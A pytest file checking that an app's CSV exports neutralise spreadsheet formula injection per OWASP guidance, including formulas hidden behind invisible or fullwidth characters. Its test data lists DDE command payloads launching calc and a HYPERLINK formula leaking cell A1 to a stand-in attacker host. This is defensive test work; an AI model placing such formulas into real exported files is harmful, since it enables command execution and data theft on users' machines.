"""CSV downloads are safe to open in a spreadsheet (OWASP, "CSV Injection" guidance).

A cell that begins with = + - @ tab or carriage return is read as a formula by spreadsheet
programs; OWASP advises prefixing such cells with a single quote so they show as text. Cases below
follow the examples on the OWASP page (formula, DDE payload, hyperlink, leading tab / CR).
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from app.exports import safe_cell, table_csv

OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.invalid/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


def _rows(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8"))))


@pytest.mark.parametrize("text", OWASP_PAYLOADS)
def test_formula_cells_are_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


# A formula behind characters a spreadsheet may skip, or written with a fullwidth / small sign.
HIDDEN_PAYLOADS = [
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\u2060@SUM(1+1)",  # word joiner
    "\u3000-1+1",  # ideographic space
    "\uff1d1+1",  # fullwidth equals sign
    "\ufe661+1",  # small equals sign
    "\uff0b1+1",  # fullwidth plus
    "\uff0d1+1",  # fullwidth hyphen-minus
    "\uff20SUM(1)",  # fullwidth commercial at
    " \u200b\u00a0\uff1dcmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HIDDEN_PAYLOADS)
def test_formula_after_invisible_characters_or_in_fullwidth_is_prefixed(text):
    assert safe_cell(text) == "'" + text
    rows = _rows(table_csv(pd.DataFrame({"label": [text], text: [1]})))
    assert rows[0][1] == "'" + text
    assert rows[1][0] == "'" + text


@pytest.mark.parametrize(
    "text", ["group A", "", "3 = three", "a+b", "x@y.org", "'=1", " a=1", "\u00a0", "\u200bok"]
)
def test_harmless_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, 2.25, np.float64(-3.0), np.int64(-7), None, True])
def test_non_text_values_are_unchanged(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", OWASP_PAYLOADS)
def test_payload_in_a_text_column_and_a_column_name_is_neutralised_in_the_file(text):
    frame = pd.DataFrame({"label": ["ok", text], text: [1, 2]})
    rows = _rows(table_csv(frame))
    assert rows[0] == ["label", "'" + text]
    assert rows[2][0] == "'" + text
    # every cell of the file, as a spreadsheet would see it, starts with something harmless
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == ""
            assert not (cell.startswith("-") and cell not in {"-4.5", "-7"})


def test_negative_numbers_stay_numbers():
    frame = pd.DataFrame(
        {"coef": [-4.5, 0.25], "count": [-7, 3], "group": pd.Categorical(["-B", "A"])}
    )
    rows = _rows(table_csv(frame))
    assert rows[1] == ["-4.5", "-7", "'-B"]
    assert rows[2] == ["0.25", "3", "A"]
    back = pd.read_csv(io.BytesIO(table_csv(frame)))
    assert back["coef"].tolist() == [-4.5, 0.25]
    assert back["count"].tolist() == [-7, 3]


def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
    # A bare CR must be quoted, or a spreadsheet starts a new row there and the neutralising
    # quote ends up on a different row from the formula.
    frame = pd.DataFrame({"note": ["a\rb", "\r=1+1"], "n": [1, 2]})
    rows = _rows(table_csv(frame))
    assert rows == [["note", "n"], ["a\rb", "1"], ["'\r=1+1", "2"]]


def test_exact_values_and_quoting_survive():
    frame = pd.DataFrame({"name": ['say "hi", then =1'], "x": [0.1 + 0.2]})
    payload = table_csv(frame)
    assert b"0.30000000000000004" in payload  # every digit kept, not a display rounding
    back = pd.read_csv(io.BytesIO(payload), float_precision="round_trip")
    assert back.loc[0, "name"] == 'say "hi", then =1'  # only the first character matters
    assert back.loc[0, "x"] == 0.1 + 0.2


def test_figure_exports_draw_more_than_five_thousand_rows():
    # Altair's guard refuses more than 5,000 rows in to_dict(); the app's figures are finished
    # specs whose frames the export turns into rows itself, so a large figure still exports.
    import altair as alt

    from app import charts
    from app.exports import figure_png, figure_svg

    frame = pd.DataFrame({"time": np.arange(12_000.0), "estimate": np.linspace(1, 0, 12_000)})
    chart = alt.Chart(frame).mark_line().encode(x="time:Q", y="estimate:Q")
    style = charts.ChartStyle(width=200, height=100)
    with alt.data_transformers.enable("default", max_rows=5000):  # the guard on, as by default
        spec = charts.finish(chart, style)
        assert len(spec["datasets"]["data-0"]) == 12_000
        assert figure_svg(spec).lstrip().startswith("<svg")
        assert figure_png(spec, scale=1.0).startswith(b"\x89PNG")
